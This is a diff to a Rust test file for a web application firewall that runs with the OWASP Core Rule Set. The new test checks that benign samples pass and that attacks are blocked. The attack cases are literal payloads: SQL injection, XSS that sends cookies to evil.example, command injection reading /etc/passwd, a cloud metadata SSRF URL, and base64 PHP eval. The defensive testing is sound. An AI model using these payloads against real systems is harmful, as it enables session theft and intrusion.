@@ -1496,32 +1496,99 @@ fn every_regex_is_prefiltered() {
     assert!(stats.transformation_chains <= 11, "{stats:?}");
 }
 
+/// `rules: ["@builtin", "@crs"]` (the demo's default) built once, or `None`
+/// without a CRS (the caller skips).
+fn with_crs() -> Option<&'static Arc<RuleSet>> {
+    static RULES: OnceLock<Option<Arc<RuleSet>>> = OnceLock::new();
+    RULES
+        .get_or_init(|| {
+            let crs = crs_dir();
+            let base = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/base/recommended.conf");
+            if !crs.join("rules").is_dir() || !base.is_file() {
+                return None;
+            }
+            let (mut confs, mut data) = pack_files();
+            let mut all = vec![("rules/base/recommended.conf".to_string(), fs::read(&base).unwrap())];
+            all.push(("crs/crs-setup.conf".to_string(), fs::read(crs.join("crs-setup.conf.example")).unwrap()));
+            all.extend(files(&crs.join("rules"), ".conf", "crs/rules"));
+            // The pack first, as `rules: ["@builtin", "@crs"]`.
+            confs.extend(all);
+            data.extend(files(&crs.join("rules"), ".data", "crs/rules"));
+            Some(build(&[], &confs, &data))
+        })
+        .as_ref()
+}
+
 #[test]
 fn loads_next_to_the_crs() {
-    let crs = crs_dir();
-    let base = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/base/recommended.conf");
-    if !crs.join("rules").is_dir() || !base.is_file() {
-        println!("SKIPPED: no CRS at {}", crs.display());
+    let Some(rules) = with_crs() else {
+        println!("SKIPPED: no CRS at {}", crs_dir().display());
         return;
-    }
-    let (mut confs, mut data) = pack_files();
-    let mut all = vec![("rules/base/recommended.conf".to_string(), fs::read(&base).unwrap())];
-    all.push(("crs/crs-setup.conf".to_string(), fs::read(crs.join("crs-setup.conf.example")).unwrap()));
-    all.extend(files(&crs.join("rules"), ".conf", "crs/rules"));
-    // The pack first, as `rules: ["@builtin", "@crs"]`.
-    confs.extend(all);
-    data.extend(files(&crs.join("rules"), ".data", "crs/rules"));
-    let rules = build(&[], &confs, &data);
+    };
     // Our phase 1 decision still fires, with our own score.
-    let o = run(&rules, &Req::get("/etc/passwd"));
+    let o = run(rules, &Req::get("/etc/passwd"));
     let i = o.interruption.as_ref().unwrap_or_else(|| panic!("not blocked: {}", describe(&o)));
     assert_eq!(i.rule_id, Some(RuleId(4_290_100)), "{}", describe(&o));
     assert_eq!(o.score.as_deref(), Some("5"));
     // A benign browser request passes both.
-    let o = run(&rules, &Req::get("/search?q=O%27Reilly+%26+Sons&page=2"));
+    let o = run(rules, &Req::get("/search?q=O%27Reilly+%26+Sons&page=2"));
     assert!(o.interruption.is_none(), "{}", describe(&o));
     assert!(!o.ids().iter().any(|id| (4_200_000..4_300_000).contains(id)), "{}", describe(&o));
     println!("CRS coexistence cases: 2");
+}
+
+/// 95-confirm.conf: CRS hits on inert text and code samples do not count,
+/// attacks that also look like them still block. Each benign case here was
+/// blocked by CRS at PL1 before the confirmations.
+#[test]
+fn confirmations_pass_inert_values_and_keep_attacks() {
+    let Some(rules) = with_crs() else {
+        println!("SKIPPED: no CRS at {}", crs_dir().display());
+        return;
+    };
+    let png = format!("data:image/png;base64,iVBORw0KGgo{}", "AAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ".repeat(8));
+    let svg = format!("data:image/svg+xml;base64,{}", b64(b"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\"><rect width=\"9\" fill=\"#71cfd4\"/></svg>", false));
+    let benign: Vec<(&str, Req)> = vec![
+        ("a search of words", q("union station select seats")),
+        ("prose with a semicolon", arg("message", "The exec committee meets on Tuesday; sleep well before the vote")),
+        ("quoted words", arg("message", "Does 'select all' in the app also select the archived items, or only the ones in the table?")),
+        ("a Markdown checklist", json(r###"{"body":"## Union meeting\n\n- [x] select a chair\n- [ ] update the minutes\n- [ ] drop the old agenda"}"###)),
+        ("a URL-encoded cookie of words", Req::get("/").header("Cookie", "last_search=union%20station%20select%20seats")),
+        ("a PNG data URL", json(&format!(r#"{{"avatar":"{png}"}}"#))),
+        ("an SVG data URL", form(&[("signature", svg.as_str())])),
+        ("a GraphQL operation", json(r#"{"query":"query Orders($first: Int!) { orders(first: $first, orderBy: CREATED_AT_DESC) { id total status } }","variables":{"first":12}}"#)),
+        ("a whole SQL statement", form(&[("body", "SELECT COUNT(*) FROM users WHERE email LIKE '%@example.org';")])),
+        ("SQL passed to a database call", form(&[("body", "cur.execute(\"SELECT * FROM users WHERE id = %s\", (user_id,))")])),
+        ("a same-origin script tag", json(r#"{"code":"<script src=\"/static/app.js\" defer></script>"}"#)),
+        ("an onclick calling a page function", form(&[("body", "<a href=\"#\" onclick=\"toggle()\">Show more</a>")])),
+        ("a URL in wiki text", json(r#"{"body":"Local dev: http://localhost:3000/api/users?id=42&include=orders"}"#)),
+    ];
+    let mut failures = Vec::new();
+    for (what, req) in &benign {
+        let o = run(rules, req);
+        if o.interruption.is_some() {
+            failures.push(format!("benign blocked ({what}): {}", describe(&o)));
+        }
+    }
+    let attacks: Vec<(&str, Req)> = vec![
+        ("tautology", q("1' or '1'='1")),
+        ("union in a numeric context", q("1 union select password from users")),
+        ("statement keyword, then a comment", form(&[("body", "select * from users where name='' or 1=1 -- ")])),
+        ("script with a dialog", q("<script>alert(document.domain)</script>")),
+        ("handler reading the cookie", q("<img src=x onerror=fetch('//evil.example/'+document.cookie)>")),
+        ("script from another origin", q("<script src=//evil.example/x.js></script>")),
+        ("command after a separator", q("127.0.0.1; cat /etc/passwd")),
+        ("metadata URL", q("http://169.254.169.254/latest/meta-data/")),
+        ("base64 of PHP code", q(&b64(b"eval(base64_decode('ZWNobyAxOw=='));", false))),
+    ];
+    for (what, req) in &attacks {
+        let o = run(rules, req);
+        if o.interruption.is_none() {
+            failures.push(format!("attack passed ({what}): {}", describe(&o)));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+    println!("confirmation cases: {} benign, {} attacks", benign.len(), attacks.len());
 }
 
 // ---------------------------------------------------------------------------
